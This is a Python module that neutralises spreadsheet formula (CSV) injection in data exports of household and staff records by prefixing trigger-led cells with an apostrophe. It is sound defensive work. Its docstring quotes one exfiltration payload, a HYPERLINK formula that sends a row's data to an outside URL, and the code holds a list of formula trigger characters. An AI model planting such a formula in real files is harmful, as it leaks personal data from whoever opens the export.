"""Cells a spreadsheet will not run: every export writes its rows through here.

Names, villages and SMS texts come from households and staff files; a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is evaluated
as a formula by Excel and LibreOffice when the export is opened
(``=HYPERLINK("http://…?leak="&B2,"click")`` sends the row away). The OWASP
rule (CSV injection) is applied to CSV and XLSX alike: such a cell gets a
leading ``'``, which spreadsheets take as "this is text" and do not show.

Numbers the export writes itself pass untouched: values that are not text
(counts, medians, dates), and text that is a plain number or a list of E.164
phones (``+84912000001;+84912000002``), which the export writes from phones
it normalised on the way in. Neither can hold a formula that runs anything.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
PHONES = re.compile(r"\+\d{6,15}(?:;\+\d{6,15})*")


def neutralise(value: object) -> object:
    """``value`` as a spreadsheet should show it: text that would run gets a ``'``."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if NUMBER.fullmatch(value) or PHONES.fullmatch(value):
        return value
    return QUOTE + value


def neutralised(row: Iterable[object]) -> list[object]:
    """A whole row through :func:`neutralise`."""
    return [neutralise(value) for value in row]


def unquote(text: str) -> str:
    """The value :func:`neutralise` protected, as an import reads it back.

    Only a ``'`` that protects a trigger is dropped, so an exported file
    imports back unchanged and a name that merely starts with ``'`` keeps it.
    """
    if text.startswith(QUOTE) and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text
